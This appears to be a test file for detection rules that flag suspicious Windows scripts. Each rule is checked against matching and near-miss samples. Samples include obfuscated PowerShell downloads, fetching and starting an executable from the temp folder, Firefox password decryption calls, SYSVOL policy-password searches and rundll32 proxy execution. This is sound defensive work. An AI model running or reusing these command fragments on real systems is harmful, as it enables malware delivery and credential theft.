// Traits of scripts on Windows by name: texts that show one and at least as many that come close. Addresses are reserved ones.
import { testTraits } from './trait-table.ts'

testTraits({
  ps_words_in_odd_case: {
    hits: {
      'a download': [
        'powershell',
        "$w=NeW-oBJeCT SySTem.NeT.WeBClIeNt; $w.DoWNLoaDStRiNG('https://files.example/a'); $w.HEaDeRS.ADd('a','b')",
      ],
    },
    misses: {
      'as documentation has it': [
        'powershell',
        "$w=New-Object System.Net.WebClient; $w.DownloadString('https://files.example/a'); $w.Headers.Add('a','b')",
      ],
      'small and capital': [
        'powershell',
        "$w=new-object system.net.webclient; $w.downloadstring('https://files.example/a'); INVOKE-EXPRESSION $a",
      ],
      'slips of a key': [
        'powershell',
        "$w=NEw-Object System.Net.Webclient; $w.DownLoadString('https://files.example/a'); $w.headers.Add('a','b')",
      ],
    },
  },
  kept_under_other_name: {
    hits: {
      'a name that has nothing of the first': [
        'powershell',
        '$w.DownloadFile(\'https://files.example/qolcls.exe\',"$env:TEMP\\viewer.exe"); Start-Process ("$env:TEMP\\viewer.exe")',
      ],
    },
    misses: {
      'a shorter name': [
        'powershell',
        '$w.DownloadFile(\'https://files.example/viewer-2.1-x64.exe\',"$env:TEMP\\viewer.exe"); Start-Process ("$env:TEMP\\viewer.exe")',
      ],
      'kept, and not started': [
        'powershell',
        '$w.DownloadFile(\'https://files.example/qolcls.exe\',"$env:TEMP\\viewer.exe"); Start-Process notepad',
      ],
    },
  },
  firefox_passwords_deciphered: {
    hits: { 'the function is found': ['powershell', "$a = $k::GetProcAddress($nss, 'PK11SDR_Decrypt')"] },
    misses: { 'another of the library': ['powershell', "$a = $k::GetProcAddress($nss, 'NSS_Init')"] },
  },
  policy_passwords_searched: {
    hits: {
      'in all policies': [
        'powershell',
        'Get-ChildItem -Path "\\\\$d\\SYSVOL" -Recurse -Include "Groups.xml","Services.xml"',
      ],
    },
    misses: { 'a script that lies there': ['powershell', 'Copy-Item "\\\\$d\\SYSVOL\\a\\scripts\\logon.bat" .'] },
  },
  rundll32_script: {
    hits: {
      'a list from anywhere': [
        'batch',
        'rundll32 advpack.dll,LaunchINFSectionEx C:\\Users\\Public\\a.inf,DefaultInstall,,4',
      ],
      'a list beside that of the drivers': [
        'batch',
        'rundll32 advpack.dll,LaunchINFSection %17%\\..\\temp\\a.inf,DefaultInstall,1',
      ],
      'a page': ['batch', 'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication ";a()'],
    },
    misses: {
      'a driver that is removed by its own list': [
        'batch',
        'rundll32 advpack.dll,LaunchINFSectionEx %17%\\example.inf,DefaultUninstall,,256',
      ],
      'a dialog': ['batch', 'rundll32 shell32.dll,Control_RunDLL desk.cpl'],
    },
  },
})
